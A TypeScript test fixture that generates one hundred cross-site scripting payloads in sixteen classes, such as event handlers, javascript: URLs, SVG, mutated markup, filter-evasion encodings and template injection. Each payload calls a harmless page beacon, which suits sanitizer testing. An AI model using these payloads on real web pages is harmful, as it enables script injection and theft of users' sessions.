/**
 * Texts that would run as script where a page took them for markup, code or an address. Each calls the beacon `ran` with its
 * own number, so that a run tells which one it was.
 */

type Written = (run: string) => string;

const img = (run: string) => `<img src=x onerror=${run}>`;

const classes: Record<string, readonly Written[]> = {
  elements: [
    (run) => `<script>${run}</script>`,
    (run) => `<ScRiPt x>${run}</sCrIpT >`,
    (run) => `<script src="data:text/javascript,${run}"></script>`,
    (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
    (run) => `<object data="javascript:parent.${run}"></object>`,
    (run) => `<embed src="javascript:parent.${run}">`,
    (run) => `<base href="javascript:${run}//"><a href="#">x</a>`,
    (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    (run) => `<link rel="stylesheet" href="/none.css" onerror="${run}">`,
    (run) => `<form action="javascript:${run}"><button>x</button></form>`,
  ],
  'event handlers': [
    img,
    (run) => `<IMG/SRC=x/ONERROR="${run}">`,
    (run) => `<img src=x onerror\n=\n${run}>`,
    (run) => `<body onload=${run}>`,
    (run) => `<video src=x onerror=${run}></video>`,
    (run) => `<video><source src=x onerror=${run}></video>`,
    (run) => `<audio src=x onerror=${run}>`,
    (run) => `<details open ontoggle=${run}>x</details>`,
    (run) => `<input autofocus onfocus=${run}>`,
    (run) => `<p tabindex=0 autofocus onfocus=${run}>x</p>`,
    (run) => `<style onload=${run}></style>`,
    (run) => `<iframe onload=${run}></iframe>`,
    (run) => `<object data=/none onerror=${run}></object>`,
    (run) => `<b onpointerover=${run} onclick=${run}>x</b>`,
  ],
  addresses: [
    (run) => `javascript:${run}`,
    (run) => `JaVaScRiPt:${run}`,
    (run) => `java\tscript:${run}`,
    (run) => `\u0001javascript:${run}`,
    (run) => `javascript://x.example/%0a${run}`,
    (run) => `data:text/html,<script>parent.${run}</script>`,
    (run) => `data:text/html;base64,${btoa(`<script>parent.${run}</script>`)}`,
    (run) => `vbscript:${run}`,
    (run) => `//x.example/#javascript:${run}`,
  ],
  links: [
    (run) => `[x](javascript:${run})`,
    (run) => `![x](x"onerror="${run})`,
    (run) => `<javascript:${run}>`,
    (run) => `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
    (run) => `<a href="java&Tab;script:${run}" ping="x">x</a>`,
  ],
  SVG: [
    (run) => `<svg onload=${run}>`,
    (run) => `<svg><script>${run}</script></svg>`,
    (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    (run) => `<svg><set onbegin=${run} attributeName=x to=1>`,
    (run) => `<svg><image href=x onerror=${run}>`,
    (run) => `<svg><foreignObject>${img(run)}</foreignObject></svg>`,
    (run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
    (run) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x">`,
  ],
  'mutated markup': [
    (run) => `<svg></p><style><a id="</style>${img(run)}">`,
    (run) => `<math><mtext><table><mglyph><style><!--</style>${img(run)}`,
    (run) => `<form><math><mtext></form><form><mglyph><style></math>${img(run)}`,
    (run) => `<noscript><p title="</noscript>${img(run)}">`,
    (run) => `<template>${img(run)}</template>`,
    (run) => `</textarea></title></select>${img(run)}`,
    (run) => `<table><td></table>${img(run)}`,
    (run) => `<xmp></xmp>${img(run)}</listing>`,
    (run) => `<img src="x\` \`"${img(run)}`,
  ],
  comments: [
    (run) => `<!-->${img(run)}-->`,
    (run) => `--!>${img(run)}`,
    (run) => `<!--<script>${run}</script>`,
    (run) => `<![CDATA[>${img(run)}]]>`,
    (run) => `<?x >${img(run)}?>`,
  ],
  'attributes left': [
    (run) => `">${img(run)}`,
    (run) => `'>${img(run)}`,
    (run) => `" autofocus onfocus="${run}`,
    (run) => `' autofocus onfocus='${run}`,
    (run) => `x autofocus onfocus=${run} `,
    (run) => `"/><svg onload=${run}>`,
  ],
  'data left': [
    (run) => `</script><script>${run}</script>`,
    (run) => `</script>${img(run)}`,
    (run) => `";${run}//`,
    (run) => `\\";${run}//`,
    (run) => `"}],"queries":[]};${run};//`,
    (run) => `\u2028${run}//`,
    (run) => `\\u003cimg src=x onerror=${run}\\u003e`,
    (run) => `*/${run}/*`,
  ],
  templates: [
    (run) => `{{${run}}}`,
    (run) => `{{constructor.constructor('${run}')()}}`,
    (run) => `\${${run}}#{${run}}`,
    (run) => `<%= ${run} %>${img(run)}`,
    // what String.replace puts in for them
    (run) => `$&$\`${img(run)}$'$1`,
    (run) => `%s%c${img(run)}`,
  ],
  entities: [
    (run) => `&lt;img src=x onerror=${run}&gt;`,
    (run) => `&#60;img src=x onerror=${run}&#62;`,
    (run) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
    (run) => `<img src=x onerror=${run.replace('r', '&#114;')}>`,
  ],
  encodings: [
    (run) => `%3Cimg%20src=x%20onerror=${run}%3E`,
    (run) => `\\x3cimg src=x onerror=${run}\\x3e`,
    (run) => `\uff1cimg src=x onerror=${run}\uff1e`,
    (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    (run) => `<\u0000img src=x onerror=${run}>${img(run)}`,
    (run) => `\ud800${img(run)}`,
  ],
  'invisible marks': [
    (run) => `\u202e${img(run)}\u202c`,
    (run) => `\u200f\ufeff${img(run)}`,
    (run) => `<\u200bimg src=x onerror=${run}>`,
  ],
  CSS: [
    (run) => `</style>${img(run)}`,
    (run) => `<p style="background:url(javascript:${run})">x</p>`,
    (run) => `red;}</style><script>${run}</script>`,
  ],
  srcdoc: [
    (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    (run) => `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;"></iframe>`,
  ],
  formulas: [(run) => `=HYPERLINK("javascript:${run}";"x")`, (run) => `@SUM(1)${img(run)}`],
};

/** The name of the beacon, a global of the page. */
export const BEACON = 'ran';

export const payloadClasses = Object.keys(classes).length;

/** One hundred of them, in a fixed order. */
export const payloads: readonly string[] = Object.values(classes)
  .flat()
  .map((written, number) => written(`${BEACON}(${number})`));

/** Payloads that each place takes where all would take too long: at least one of each class. */
export const FEW_TURNS = 20;

const byClass = Object.values(classes).map((own, at) => {
  const before = Object.values(classes).slice(0, at).flat().length;
  return payloads.slice(before, before + own.length);
});

/** The payload of one of a few turns: 16 turns of a place take one of each class, and 20 turns of 20 places take every payload. */
export function fewAt(turn: number, place: number): string {
  // 11 has no divisor in common with the number of classes nor with the size of any
  const number = turn + place * 11;
  const own = byClass[number % byClass.length] ?? [];
  return own[Math.floor(number / byClass.length) % own.length] ?? '';
}

/** The payload of a turn: in 100 turns each place gets every one, and neighbouring places get different ones. */
export function payloadAt(turn: number, place = 0): string {
  return payloads[(turn + place * 7) % payloads.length] ?? '';
}
